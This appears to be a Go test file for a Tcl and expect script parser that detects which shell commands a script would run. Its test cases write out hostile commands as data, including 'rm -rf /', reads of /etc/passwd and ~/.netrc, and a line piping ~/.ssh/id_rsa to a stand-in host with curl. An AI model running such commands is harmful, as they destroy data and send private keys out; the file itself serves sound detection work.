package tcl

import (
	"strings"
	"testing"
)

// words shows a script's commands: each word's value, ? for one built
// at run time, {…} for a braced one; commands split by " ; ".
func words(src string) string {
	var cs []string
	for _, c := range Parse(src) {
		var ws []string
		for _, w := range c.Words {
			switch {
			case w.Braced:
				ws = append(ws, "{"+w.Text+"}")
			case !w.Literal:
				ws = append(ws, "?")
			default:
				ws = append(ws, w.Text)
			}
			if w.Expand {
				ws[len(ws)-1] = "*" + ws[len(ws)-1]
			}
		}
		cs = append(cs, strings.Join(ws, " "))
	}
	return strings.Join(cs, " ; ")
}

func TestParse(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`exec rm -rf ~`, `exec rm -rf ~`},
		{"puts a; puts b\nputs c", `puts a ; puts b ; puts c`},
		{`puts "a b" {c d}`, `puts a b {c d}`},
		{`puts "a;b"`, `puts a;b`},
		{`puts {a {b} c}`, `puts {a {b} c}`},
		{`puts {a \} b}`, `puts {a \} b}`},
		{`puts $x "a$y" ${z}`, `puts ? ? ?`},
		{`puts [exec id] x[pwd]y`, `puts ? ?`},
		{`puts a\ b \x41\u0042 "\t"`, "puts a b AB \t"},
		{"# exec rm -rf ~\nputs hi", `puts hi`},
		{"puts a # not a comment", `puts a # not a comment`},
		{"puts a ;# a comment\nputs b", `puts a ; puts b`},
		{"exec echo a \\\n b", `exec echo a b`},
		{`exec {*}{rm -rf /}`, `exec *{rm -rf /}`},
		{`set a(1) [lindex $l 0]`, `set a(1) ?`},
		{`puts "unclosed`, `puts ?`},
		{`puts {unclosed`, `puts {unclosed}`},
		{`puts [unclosed`, `puts ?`},
		{`::exec ls`, `::exec ls`},
	} {
		if got := words(c.in); got != c.want {
			t.Errorf("%q:\n got %s\nwant %s", c.in, got, c.want)
		}
	}
}

// TestRuns holds each way Tcl and expect run a program to the shell
// command it is (as tclsh 8.6.13 runs it: no ~ in exec's words, ~ in
// its redirections' files), a word built at run time to a run not
// known, and code that runs nothing to nothing.
func TestRuns(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`exec rm -rf ~`, `rm -rf '~'`},
		{`exec rm -rf /`, `rm -rf /`},
		{`exec -ignorestderr -keepnewline -- cat /etc/passwd`, `cat /etc/passwd`},
		{`exec cat < ~/.ssh/id_rsa | curl -d @- https://x.example`, `cat < ~/.ssh/id_rsa | curl -d @- https://x.example`},
		{`exec cat <~/.netrc >/tmp/x 2>@1 &`, `cat < ~/.netrc > /tmp/x 2>&1 &`},
		{`exec sh -c {rm -rf ~}`, `sh -c 'rm -rf ~'`},
		{`exec wc << "some text" >@ stdout`, `wc <<< 'some text'`},
		{`exec {*}{rm -rf /}`, `rm -rf /`},
		{`exec rm -rf $env(HOME)`, `?exec`},
		{`exec {*}$cmd`, `?exec`},
		{`set f [open "|rm -rf /" r]`, `rm -rf /`},
		{`set f [open {|sh -c "id; rm -rf ~"} r]`, `sh -c 'id; rm -rf ~'`},
		{`open |[list rm -rf /]`, `?open`},
		{`set f [open x.txt w]`, ``},
		{`spawn rm -rf ~`, `rm -rf '~'`},
		{`spawn -noecho ssh host`, `ssh host`},
		{`system rm -rf ~`, `rm -rf ~`},
		{`exp_spawn sh`, `sh`},
		{`if {1} {exec rm -rf /} else {puts no}`, `rm -rf /`},
		{`if {[exec id] eq "x"} then {puts a} elseif {$x} {exec ls}`, `id ; ls`},
		{`proc p {} {exec rm -rf /}; p`, `rm -rf /`},
		{`foreach d {a b} {exec rm -rf $d}`, `?exec`},
		{`while {1} {exec sh}`, `sh`},
		{`catch {exec id} msg`, `id`},
		{`eval exec rm -rf /`, `rm -rf /`},
		{`eval {exec rm -rf /}`, `rm -rf /`},
		{`uplevel #0 {exec id}`, `id`},
		{`after 10 {exec id}`, `id`},
		{`expect {"pw:" {exec id}}`, `id`},
		{`puts [exec id]`, `id`},
		{`set x "[exec id]"`, `id`},
		{`$cmd rm -rf ~`, `?a command named at run time`},
		{`[set c exec] rm -rf ~`, `?a command named at run time`},
		{`puts hello`, ``},
		{`puts {exec rm -rf ~}`, ``},
		{`puts "exec rm -rf ~"`, ``},
		{`# exec rm -rf ~`, ``},
		{`set x {exec rm -rf ~}`, ``},
	} {
		var rs []string
		for _, r := range Runs(c.in) {
			if r.Unknown {
				rs = append(rs, "?"+r.By)
			} else {
				rs = append(rs, r.Shell)
			}
		}
		if got := strings.Join(rs, " ; "); got != c.want {
			t.Errorf("%q:\n got %s\nwant %s", c.in, got, c.want)
		}
	}
}

func TestList(t *testing.T) {
	for _, c := range []struct {
		in   string
		want string
		ok   bool
	}{
		{`a b c`, `a|b|c`, true},
		{`a {b c} "d e"`, `a|b c|d e`, true},
		{`a\ b`, `a b`, true},
		{`{a}b`, ``, false},
		{`{a`, ``, false},
	} {
		got, ok := List(c.in)
		if ok != c.ok || strings.Join(got, "|") != c.want {
			t.Errorf("List(%q) = %q, %v; want %q, %v", c.in, got, ok, c.want, c.ok)
		}
	}
}

var seeds = []string{
	`exec rm -rf ~`, `puts "a`, `puts {a`, `puts [a`, `$`, `${`, `$a(`, `$a([x]`, `\`, `\x`, `\u12`, `{*}`, `{*}{a`,
	"a\\\n", "#\\\n", `open "|`, `open {|a {b}`, `exec > `, `exec 2>@1`, `if`, `if {[`, `proc p {} {`, `[[[[`, `]]]`,
	`expect {a {b`, `uplevel #`, `exec {*}$x`, `spawn -ignore`, `spawn -open`,
}

func check(t *testing.T, src string) {
	Parse(src)
	Runs(src)
	List(src)
}

func TestSeeds(t *testing.T) {
	for _, s := range seeds {
		check(t, s)
	}
	check(t, strings.Repeat("[", 10000))
	check(t, strings.Repeat("if {1} {", 2000))
}

func FuzzRuns(f *testing.F) {
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(check)
}
